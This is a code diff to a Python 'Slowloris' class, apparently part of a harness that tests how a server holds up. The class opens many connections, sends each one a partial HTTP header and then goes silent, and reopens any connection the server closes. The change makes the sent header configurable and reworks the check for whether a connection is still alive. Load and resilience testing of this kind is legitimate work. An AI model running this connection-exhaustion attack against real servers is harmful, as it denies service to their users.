@@ -59,6 +59,7 @@ class Slowloris:
     address: tuple[str, int]
     count: int
     reopen: bool  # open a new connection for each one the server closes
+    head: bytes = PARTIAL_HEAD  # what each connection sends, then nothing
     opened: int = 0  # (counted without a lock: approximate if threads collide)
     closed_by_server: int = 0
     stop: threading.Event = field(default_factory=threading.Event)
@@ -91,7 +92,7 @@ class Slowloris:
     def _open(self) -> socket.socket | None:
         try:
             sock = socket.create_connection(self.address, timeout=1)
-            sock.sendall(PARTIAL_HEAD)
+            sock.sendall(self.head)
         except OSError:
             return None
         sock.setblocking(False)
@@ -101,11 +102,12 @@ class Slowloris:
     @staticmethod
     def _alive(sock: socket.socket) -> bool:
         try:
-            return sock.recv(1024) != b""  # the server only ever answers a closing connection
+            sock.recv(1024)  # the server only ever writes to a connection it closes (408 to a body)
         except BlockingIOError:
             return True
         except OSError:
             return False
+        return False
 
 
 def timed_health(url: str) -> float:
